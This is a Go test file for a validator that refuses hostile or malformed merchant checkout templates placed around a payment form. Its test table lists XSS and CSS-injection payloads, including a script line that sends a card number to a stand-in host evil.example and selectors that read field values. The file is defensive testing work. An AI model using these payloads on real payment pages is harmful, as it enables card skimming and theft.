package design

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/tdewolff/parse/v2"
	"github.com/tdewolff/parse/v2/css"
	"golang.org/x/net/html"
)

var update = flag.Bool("update", false, "write the golden files anew")

// example is the template of the documentation.
func example(t testing.TB) Files {
	t.Helper()
	dir := "../../docs/page-template"
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	files := Files{}
	for _, e := range entries {
		if files[e.Name()], err = os.ReadFile(filepath.Join(dir, e.Name())); err != nil {
			t.Fatal(err)
		}
	}
	return files
}

// around is what a page of a template may be made of, and nothing else.
const around = "<header></header><tranzit-payment></tranzit-payment>"

// page is a template whose markup is one text around the payment.
func page(text string) Files {
	return Files{PageFile: []byte(text + "\n<tranzit-payment></tranzit-payment>")}
}

// style is a template with one style sheet.
func style(text string) Files { return Files{PageFile: []byte(around), StyleFile: []byte(text)} }

// hostile are templates of shops that mean harm, and of shops that err. Each must be
// refused, with the words of the golden file.
var hostile = []struct {
	name  string
	files Files
}{
	{"script", page("<header>\n <script>fetch('https://evil.example/'+document.forms[0].number.value)</script></header>")},
	{"script in capitals", page("<header><SCRIPT SRC=//evil.example/x.js></SCRIPT></header>")},
	{"script that is not ended", page("<header><script>alert(1)")},
	{"event handler", page("<header><img src=x alt=x onerror=alert(1)></header>")},
	{"event handler after a slash", page("<header><p/onclick=alert(1)>x</p></header>")},
	{"javascript link", page("<header><a href=\" java\tscript:alert(1)\">x</a><a href=javascript:alert(1)>x</a></header>")},
	{"data link", page("<header><a href='data:text/html,<script>alert(1)</script>'>x</a></header>")},
	{"link in clear, to an address, with a user", page("<header><a href=http://shop.example/>x</a><a href=//evil.example>x</a><a href=https://10.0.0.1/>x</a><a href=https://a@evil.example/>x</a><a href=https://ЕVIL.example>x</a></header>")},
	{"a second form", page("<header><form action=https://evil.example/><input name=number><button>Pay</button></form></header>")},
	{"fields without a form", page("<header><input name=number><textarea></textarea><select><option>1</select></header>")},
	{"frames", page("<header><iframe src=https://evil.example/></iframe><object data=x></object><embed src=x></header>")},
	{"base and refresh", page("<header><base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example/'></header>")},
	{"link element", page("<link rel=stylesheet href=https://evil.example/x.css>")},
	{"svg", page("<header><svg onload=alert(1)><use href='data:x'/></svg><math><mi xlink:href='javascript:alert(1)'></mi></math></header>")},
	{"svg file", Files{PageFile: []byte(around), "logo.svg": []byte("<svg/>")}},
	{"script file", Files{PageFile: []byte(around), "pay.js": []byte("x")}},
	{"foreign picture", page("<header><img src=https://evil.example/p.gif alt=''></header>")},
	{"picture that is a page", Files{PageFile: []byte("<header><img src=a.png alt=''></header>" + around), "a.png": []byte("<script>alert(1)</script>")}},
	{"picture of another kind", Files{PageFile: []byte("<header><img src=a.gif alt=''></header>" + around), "a.gif": []byte("\x89PNG\r\n\x1a\n")}},
	{"style attribute", page("<header><p style='position:fixed;inset:0'>x</p></header>")},
	{"style element", page("<header><style>input{background:url(https://evil.example)}</style></header>")},
	{"names that shadow the page's", page("<header><p id=number>x</p><img name=forms src=x alt=x></header>")},
	{"the payment within", page("<header><tranzit-payment></tranzit-payment></header>")},
	{"the payment twice", page(around)},
	{"something in the payment", Files{PageFile: []byte("<tranzit-payment><p>x</p></tranzit-payment>")}},
	{"no payment", Files{PageFile: []byte("<header></header>")}},
	{"no page", Files{StyleFile: []byte("a{}")}},
	{"a page that is not closed", page("<header><div><p>x")},
	{"ends that cross", page("<header><b><i>x</b></i></header>")},
	{"a paragraph that would be split", page("<header><p><div>x</div></p></header>")},
	{"a link within a link", page("<header><a href=https://a.example/><b><a href=https://b.example/>x</a></b></a></header>")},
	{"a whole document", Files{PageFile: []byte("<!doctype html><html><head><title>x</title></head><body><main><h1>Pay</h1>" + around + "</main></body></html>")}},
	{"text at top level", page("Pay here")},
	{"no words for the picture", page("<header><img src=x></header>")},
	{"lists", page("<header><ul><p>x</p>y</ul><li>z</li><dd>z</dd></header>")},
	{"two headers", page("<header></header><header></header><nav></nav>")},
	{"an unknown value", page("<header><p>{{card}} {{ amount | safe }} {{amount}}</p><p>}} {{</p></header>")},
	{"control characters", page("<header>\u202e</header>")},
	{"not UTF-8", page("<header>\xff</header>")},
	{"import", style("@import url(https://evil.example/x.css);\n@import 'x';\n@font-face{src:url(x)}\n@charset 'x';")},
	{"unknown at-rule", style("@supports (display:grid){a{color:red}}\n@layer x;\n@media{@media print{a{color:red}}}")},
	{"foreign url", style(".a{background:url(https://evil.example/p)}\n.b{background:url('//evil.example')}\n.c{background:image-set('x' 1x)}\n.d{background:url(data:image/png;base64,x)}")},
	{"url where none belongs", style(".a{cursor:url(x),auto;width:url(x)}")},
	{"reading a field", style("input[value^='4']{background:url(x)}\n[name=number]{color:red}")},
	{"has", style("body:has(input:checked){background:red}\na:not(.b){color:red}")},
	{"choosing the payment", style("#tranzit{display:none}\n#number{opacity:0}\ninput{opacity:0}\nmain{display:none}\nbutton:hover{color:red}\ntranzit-payment p{color:red}\n.a tranzit-payment{color:red}")},
	{"hiding the page", style("html{display:none}\nbody{display:none;opacity:0;filter:blur(9px)}\n:root{font-size:0}\nbody p, body{color:red}")},
	{"covering the payment", style(".a{position:fixed;top:0;z-index:9}\n.b{margin-bottom:-40rem}\n.c{margin:calc(0px - 9rem)}\n.d{transform:translateY(9rem)}\n.e{margin:var(--m)}\n.f{float:left;inset:0;translate:0 9rem}")},
	{"escapes", style(".a{\\70osition:fixed}")},
	{"the end of the style", style(".a{color:red}</style><script>alert(1)</script>")},
	{"expression and behaviour", style(".a{width:expression(alert(1));behavior:url(x);-moz-binding:url(x)}")},
	{"braces", style(".a{color:red\n.b{color:red}}}\n{color:red}")},
	{"no block", style("a; b{color:red}")},
	{"values", style(".a{color:;width:@x;height:1px);margin:(1px;color:#12;content:'x'}")},
	{"moving", style("@keyframes x{from{opacity:0}}.a{animation:x 1s;transition:all 1s}")},
	{"an amount that is not seen", style("tranzit-payment{--ink:#f3f5f9}\n.a{color:red}")},
	{"a button that is not seen", style("tranzit-payment{--accent:#ffe;--on-accent:#fff}")},
	{"looks that are no looks", style("tranzit-payment{--ink:red;--paper:url(x);--radius:9rem;--font:expression(x);--zoom:2;display:none}")},
	{"two in one rule", style("tranzit-payment,body{color:red}")},
	{"names of files", Files{PageFile: []byte(around), "../a.png": nil, "A B.png": nil, "x.txt": []byte("x")}},
	{"a picture nobody sees", Files{PageFile: []byte(around), "a.webp": []byte("RIFF....WEBPVP8 ")}},
	{"too large a page", page("<header><p>" + strings.Repeat("x", MaxServed) + "</p></header>")},
	{"too large a file", page("<header><p>" + strings.Repeat("x", MaxFile) + "</p></header>")},
}

// TestMistakes holds what is told of each hostile template to a golden file, and
// that it is told the same each time.
func TestMistakes(t *testing.T) {
	var out strings.Builder
	for _, h := range hostile {
		fmt.Fprintf(&out, "# %s\n", h.name)
		d, findings := Read(h.files)
		if d != nil || len(findings) == 0 {
			t.Errorf("%s: is taken: %+v", h.name, d)
		}
		for _, f := range findings {
			fmt.Fprintln(&out, f)
		}
		for range 3 {
			if _, again := Read(h.files); !slices.Equal(findings, again) {
				t.Errorf("%s: another time other mistakes are told:\n%v\n%v", h.name, findings, again)
			}
		}
	}
	golden := "testdata/mistakes.golden"
	if *update {
		if err := os.WriteFile(golden, []byte(out.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil || string(want) != out.String() {
		t.Errorf("other words than in %s (run with -update): %v\n%s", golden, err, out.String())
	}
}

// TestExample: the template of the documentation has no mistakes, and every language
// has its page.
func TestExample(t *testing.T) {
	d, findings := Read(example(t))
	if d == nil {
		t.Fatal(findings)
	}
	before, after := d.Around("ru", &Values{Amount: "1 299,00 ₽", Order: "<b>", Shop: "Socks & Co"})
	if !strings.Contains(string(after), "заказ &lt;b&gt; на 1 299,00 ₽") || !strings.Contains(string(before), "Socks &amp; Co") {
		t.Errorf("%s\n%s", before, after)
	}
	if _, after := d.Around("es", &Values{}); !strings.Contains(string(after), "You pay order") {
		t.Error("a language without a page of its own does not get page.html")
	}
	if !slices.Equal(d.Hosts, []string{"shop.example"}) || d.Served > MaxServed/2 {
		t.Errorf("hosts %v, %d bytes", d.Hosts, d.Served)
	}
	holdHarmless(t, d)
}

// holdHarmless reads what a template became as a browser does, and holds it to what
// may be there at all.
func holdHarmless(t testing.TB, d *Design) {
	t.Helper()
	if strings.ContainsAny(d.Style, `<\`) || strings.Contains(d.Style, "@import") {
		t.Errorf("the style: %s", d.Style)
	}
	for _, address := range strings.Split(d.Style, "url(")[1:] {
		if !strings.HasPrefix(address, `"data:image/`) {
			t.Errorf("the style loads %.60s", address)
		}
	}
	holdBound(t, d.Style)
	for _, language := range append([]string{""}, Languages...) {
		before, after := d.Around(language, &Values{Amount: "<script>", Order: `"><script>`, Description: "&lt;script&gt;", Shop: "</header><script>"})
		text := "<!DOCTYPE html><html><head><title>x</title></head><body>" + string(before) + `<div id="tranzit"><form></form></div>` + string(after) + "</body></html>"
		doc, err := html.Parse(strings.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		forms, body := 0, doc.LastChild.LastChild
		for n := range doc.Descendants() {
			if n.Type != html.ElementNode {
				continue
			}
			switch _, known := elements[n.Data]; {
			case n.Data == "form":
				forms++
			case n.Data == "div" && attribute(n, "id") == "tranzit" && n.Parent != body:
				t.Errorf("the payment stands within <%s>", n.Parent.Data)
			case !known && n != body && n.Data != "html" && n.Data != "head" && n.Data != "title":
				t.Errorf("<%s> came through", n.Data)
			}
			holdAttributes(t, n)
		}
		if forms != 1 {
			t.Errorf("%d forms", forms)
		}
	}
}

// holdBound reads a style as a browser does: each part of each selector is bound to
// the shop's elements, and nothing is set that could move them over the payment.
func holdBound(t testing.TB, style string) {
	t.Helper()
	p := css.NewParser(parse.NewInputString(style), false)
	for {
		kind, _, name := p.Next()
		switch kind {
		case css.ErrorGrammar:
			if !errors.Is(p.Err(), io.EOF) {
				t.Errorf("the style cannot be read: %v in %s", p.Err(), style)
			}
			return
		case css.AtRuleGrammar:
			t.Errorf("the rule %s", name)
		case css.BeginAtRuleGrammar:
			if string(name) != "@media" {
				t.Errorf("the rule %s", name)
			}
		case css.BeginRulesetGrammar, css.QualifiedRuleGrammar:
			selector := ""
			for _, v := range p.Values() {
				selector += string(v.Data)
			}
			switch selector {
			case "body", ":root", "#" + BlockID:
				continue
			}
			for part := range strings.FieldsFuncSeq(selector, func(r rune) bool { return strings.ContainsRune(" >+~,", r) }) {
				if !strings.Contains(part, "."+mark) || strings.ContainsAny(part, "#[(") {
					t.Errorf("%q of %q finds what is not the shop's", part, selector)
				}
			}
		case css.DeclarationGrammar:
			if _, known := properties[string(name)]; !known {
				t.Errorf("the property %s came through", name)
			}
		}
	}
}

func attribute(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func holdAttributes(t testing.TB, n *html.Node) {
	t.Helper()
	for _, a := range n.Attr {
		switch a.Key {
		case "class", "lang", "alt", "width", "height", "aria-label", "rel", "target":
		case "id":
			if a.Val != BlockID {
				t.Errorf("<%s id=%q>", n.Data, a.Val)
			}
		case "src":
			if !strings.HasPrefix(a.Val, "data:image/") {
				t.Errorf("a picture is loaded from %q", a.Val)
			}
		case "href":
			if !strings.HasPrefix(a.Val, "https://") && !strings.HasPrefix(a.Val, "mailto:") && !strings.HasPrefix(a.Val, "tel:") {
				t.Errorf("a link leads to %q", a.Val)
			}
		default:
			t.Errorf("the attribute %s of <%s> came through", a.Key, n.Data)
		}
	}
}

// TestStyleIsBound: no rule of a shop can find an element that is not the shop's.
func TestStyleIsBound(t *testing.T) {
	for css, want := range map[string]string{
		"p{color:red}": "p.of-shop{color:red}",
		"*{color:red}": ".of-shop{color:red}",
		".a .b>p + p ~ a:hover::before{content:'x'}":                          ".of-shop.a .of-shop.b>p.of-shop+p.of-shop~a.of-shop:hover::before{content:'x'}",
		".a,\n.b.c{color:#abc}":                                               ".of-shop.a,.of-shop.b.c{color:#abc}",
		":root{--a-b:1px}.a{width:var(--A-B)}":                                ":root{--shop-a-b:1px}.of-shop.a{width:var(--shop-a-b)}",
		"/* x */@media (min-width:40rem) and (max-width: 60em){a{color:red}}": "@media (min-width:40rem) and (max-width: 60em){a.of-shop{color:red}}",
		"tranzit-payment{--radius:0;--on-accent:#ff0;--accent:#000}":          "#tranzit{--act:#000;--on-act:#ff0;--act-deep:#000;--radius:0px}",
	} {
		d, findings := Read(style(css))
		if d == nil || d.Style != base+want {
			t.Errorf("%s:\n%+v\nwant %s\n%v", css, d, want, findings)
			continue
		}
		holdHarmless(t, d)
	}
}

// TestZip: what was written is read again, a folder around it and what systems add
// are left out, and what is too large is refused.
func TestZip(t *testing.T) {
	files := example(t)
	body, err := files.WriteZip()
	if err != nil {
		t.Fatal(err)
	}
	again, err := ReadZip(body)
	if err != nil || !maps.EqualFunc(files, again, bytes.Equal) {
		t.Errorf("another template: %v", err)
	}
	wrapped := Files{"__MACOSX/._page.html": nil, "socks/.DS_Store": nil}
	for name, body := range files {
		wrapped["socks/"+name] = body
	}
	if body, err = wrapped.WriteZip(); err != nil {
		t.Fatal(err)
	}
	if again, err = ReadZip(body); err != nil || !maps.EqualFunc(files, again, bytes.Equal) {
		t.Errorf("in a folder: %v %v", slices.Sorted(maps.Keys(again)), err)
	}
	bomb := Files{PageFile: bytes.Repeat([]byte{'x'}, 5<<20)}
	if body, err = bomb.WriteZip(); err != nil {
		t.Fatal(err)
	}
	if again, err = ReadZip(body); err != nil || len(again[PageFile]) > MaxFile+1 {
		t.Errorf("a bomb: %d bytes, %v", len(again[PageFile]), err)
	}
	if _, err := ReadZip([]byte("PK no archive")); err == nil {
		t.Error("what is no archive is taken")
	}
}

// FuzzRead: what the lint takes can do no harm, whatever it was made of, and it is
// told the same twice.
func FuzzRead(f *testing.F) {
	for _, h := range hostile {
		f.Add(string(h.files[PageFile]), string(h.files[StyleFile]))
	}
	files := example(f)
	f.Add(string(files[PageFile]), string(files[StyleFile]))
	f.Fuzz(func(t *testing.T, page, css string) {
		files := Files{PageFile: []byte(page), StyleFile: []byte(css)}
		d, findings := Read(files)
		if _, again := Read(files); !slices.Equal(findings, again) {
			t.Error("another time other mistakes are told")
		}
		if d != nil {
			holdHarmless(t, d)
		}
	})
}
